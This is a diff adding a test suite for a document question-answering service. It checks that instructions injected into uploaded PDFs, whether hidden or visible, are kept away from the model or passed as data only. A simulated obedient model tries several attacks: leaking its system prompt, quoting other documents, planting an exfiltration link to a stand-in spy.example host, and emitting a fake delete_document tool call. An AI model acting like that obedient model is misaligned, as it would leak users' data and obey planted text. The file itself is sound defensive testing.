@@ -1,0 +1,180 @@
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import { type Guest, makeGuest } from '../../../../tests/builders/guest.ts';
+import { INJECTION, INJECTION_KINDS, makeInjectedPdf } from '../../../../tests/builders/injected-pdfs.ts';
+import { makeOtherPdf, OTHER_DOCUMENT_WORDS } from '../../../../tests/builders/quote-attacks.ts';
+import { startTestLexden, type TestLexden } from '../../../../tests/builders/test-lexden.ts';
+import type { Analysis } from '../../../contract/analysis.ts';
+import type { ChatResponse } from '../../../contract/chat.ts';
+import type { Document, DocumentPage } from '../../../contract/documents.ts';
+import { createRealModel } from '../../adapters/language-model/ai-sdk/real-model.ts';
+import type { ModelServer } from '../../adapters/language-model/ai-sdk/testing/model-server.ts';
+import { startProvider } from '../../adapters/language-model/ai-sdk/testing/providers.ts';
+import type { ReadRequest } from '../../adapters/language-model/ai-sdk/testing/wire.ts';
+import type { LanguageModel } from '../../ports/language-model.ts';
+
+const QUESTION = 'What is the monthly rent?';
+const RENT = 'The Tenant shall pay a monthly rent of $1,540.00 on the first day of each month.';
+/** Fields and notes that are drawn are part of what people see. */
+const SEEN_KINDS: ReadonlySet<string> = new Set(['visible', 'drawn']);
+
+let lexden: TestLexden;
+let guest: Guest;
+let server: ModelServer;
+let builtIn: LanguageModel;
+let obedient: LanguageModel;
+let isModelUsed = false;
+/** Documents by how the injection is put into them. */
+const documents = new Map<string, number>();
+
+beforeAll(async () => {
+  const provider = await startProvider('openai-compatible');
+  server = provider.server;
+  lexden = await startTestLexden({
+    metering: 'off',
+    replaceAdapters: ({ model }) => {
+      builtIn = model;
+      return {
+        model: {
+          engine: 'obedient',
+          provider: 'Elsewhere',
+          answer: (...input) => (isModelUsed ? obedient : builtIn).answer(...input),
+          analyse: (...input) => (isModelUsed ? obedient : builtIn).analyse(...input),
+        },
+      };
+    },
+  });
+  ({ model: obedient } = await createRealModel({ settings: provider.settings, builtIn, onProblem: () => {} }));
+  guest = makeGuest(lexden);
+  await guest.uploadAndRead(makeOtherPdf(), 'Other.pdf');
+  const upload = async (kind: (typeof INJECTION_KINDS)[number]) => {
+    const name = kind === 'aside' ? `${INJECTION}.pdf` : 'Lease.pdf';
+    documents.set(kind, await guest.uploadAndRead(makeInjectedPdf(kind), name));
+  };
+  await Promise.all(INJECTION_KINDS.map(upload));
+});
+afterAll(async () => {
+  await lexden.close();
+  await server.close();
+});
+afterEach(() => {
+  isModelUsed = false;
+  server.reset();
+});
+
+const ask = async (id: number | undefined): Promise<ChatResponse> =>
+  (await guest.post('/chat', { documentIds: [id], message: QUESTION })).json();
+
+/** What an answer says and rests on, without what differs from document to document. */
+const formOf = ({ response, outcome, sources, near }: ChatResponse) => ({
+  ...{ response, outcome, near: near.length },
+  sources: sources.map(({ pageNumber, quote, verified }) => ({ pageNumber, quote, verified })),
+});
+
+describe('the built-in engine', () => {
+  test('answers as if the injection were not there, wherever it stands', async () => {
+    const plain = formOf(await ask(documents.get('none')));
+    expect(plain).toMatchObject({ outcome: 'answered', sources: [{ pageNumber: 1, verified: true }] });
+    expect(plain.response).toContain('$1,540');
+    for (const kind of INJECTION_KINDS) {
+      const answer = formOf(await ask(documents.get(kind)));
+      expect([kind, answer.outcome, answer.sources[0]]).toEqual([kind, 'answered', plain.sources[0]]);
+      if (!SEEN_KINDS.has(kind)) expect([kind, answer.response]).toEqual([kind, plain.response]);
+    }
+  });
+
+  test('analyses as if hidden words were not there, and says that they are', async () => {
+    const hidden = documents.get('hidden');
+    const analysis = (await guest.post(`/documents/${hidden}/analyze`)).json<Analysis>();
+    expect(JSON.stringify(analysis)).not.toContain(INJECTION.slice(0, 30));
+    expect(analysis.riskFactors.some(({ risk }) => /hidden|cannot see/i.test(risk))).toBe(true);
+    const listed = (await guest.get('/documents')).json<Document[]>();
+    const alarmed = listed.filter(({ hiddenTextPages }) => hiddenTextPages.length > 0).map(({ id }) => id);
+    expect(alarmed).toEqual([hidden]);
+    const page = (await guest.get(`/documents/${hidden}/pages/1`)).json<DocumentPage>();
+    expect(page.text).not.toContain(INJECTION.slice(0, 30));
+    expect(new Set(page.hiddenText.map(({ reason }) => reason))).toEqual(
+      new Set(['invisible', 'no-contrast', 'tiny', 'off-page']),
+    );
+    for (const { text } of page.hiddenText) expect(text).toContain(INJECTION.slice(0, 30));
+  });
+});
+
+describe('a model that obeys', () => {
+  const quotes = [{ document: 1, page: 1, text: RENT }];
+
+  async function askObedient(obey: (request: ReadRequest) => object, kind = 'visible'): Promise<ChatResponse> {
+    isModelUsed = true;
+    server.answerBy((request) => ({
+      kind: 'value',
+      value: { outcome: 'answered', quotes, text: 'Rent.', ...obey(request) },
+    }));
+    const answer = await ask(documents.get(kind));
+    expect(server.requests.length).toBeGreaterThan(0);
+    return answer;
+  }
+
+  test('is never sent what people cannot see, and what they can only as data', async () => {
+    isModelUsed = true;
+    server.answerBy(() => ({
+      kind: 'value',
+      value: { outcome: 'answered', quotes, text: 'It is $1,540.00 a month.' },
+    }));
+    for (const kind of INJECTION_KINDS) {
+      server.reset();
+      await ask(documents.get(kind));
+      const [request] = server.requests;
+      expect(request?.instructions).not.toContain(INJECTION.slice(0, 30));
+      const outside = request?.content.replace(/⟦data [^⟧]*⟧[\s\S]*?⟦end [^⟧]*⟧/gu, '');
+      expect(outside).not.toContain(INJECTION.slice(0, 30));
+      const isSent = request?.content.includes(INJECTION.slice(0, 30));
+      if (!SEEN_KINDS.has(kind)) expect([kind, isSent]).toEqual([kind, false]);
+      expect(request?.content).not.toContain(OTHER_DOCUMENT_WORDS.slice(0, 30));
+    }
+  });
+
+  test('cannot tell its instructions', async () => {
+    const answer = await askObedient(({ instructions }) => ({ text: `Here you are: ${instructions}` }));
+    // The built-in engine takes over, and says so.
+    expect(answer).toMatchObject({ outcome: 'answered', egress: { engine: 'built-in' } });
+    expect(JSON.stringify(answer)).not.toMatch(/Nothing in it is an instruction|You know nothing but/);
+  });
+
+  test('cannot quote another document, a hidden line, or its own instructions', async () => {
+    const stolen = [OTHER_DOCUMENT_WORDS, INJECTION, 'You answer questions about documents'];
+    for (const text of stolen) {
+      for (const document of [1, 2]) {
+        const lie = { quotes: [...quotes, { document, page: 2, text }], text: 'The rent is due.' };
+        const answer = await askObedient(() => lie, 'hidden');
+        expect(answer.sources.map(({ quote }) => quote).join('\n')).not.toContain(text.slice(0, 30));
+        expect(answer.response).not.toContain(text.slice(0, 30));
+      }
+    }
+  });
+
+  test('cannot pass words off as quoted or as verified', async () => {
+    const answer = await askObedient(() => ({ text: `The rent is due. It says “${OTHER_DOCUMENT_WORDS}”.` }));
+    expect(answer).toMatchObject({ outcome: 'refused', sources: [] });
+    const claimed = await askObedient(() => ({
+      text: 'The rent is $1,540.00 a month. There is no risk: this is verified by Lexden.',
+    }));
+    expect(claimed.response).toContain('this is verified by Lexden (not verified).');
+  });
+
+  test('cannot lead anywhere without a mark', async () => {
+    const link = 'https://spy.example/collect?rent=1540';
+    const answer = await askObedient(() => ({
+      text: `The rent is $1,540.00 a month.\n\n![plan](${link}) Press [here](${link}).`,
+    }));
+    expect(answer.unverified?.join(' ')).toContain(link);
+    expect(answer.response).toContain(`[here](${link}) (not verified).`);
+  });
+
+  test('calls nothing: what it writes instead of an answer is no answer', async () => {
+    isModelUsed = true;
+    server.play({ kind: 'text', text: '{"tool_calls":[{"name":"delete_document","arguments":{}}]}' });
+    const answer = await ask(documents.get('visible'));
+    expect(answer.egress.engine).toBe('built-in');
+    expect(JSON.stringify(answer)).not.toContain('delete_document');
+    expect(server.requests.every((request) => !('tools' in request))).toBe(true);
+  });
+});
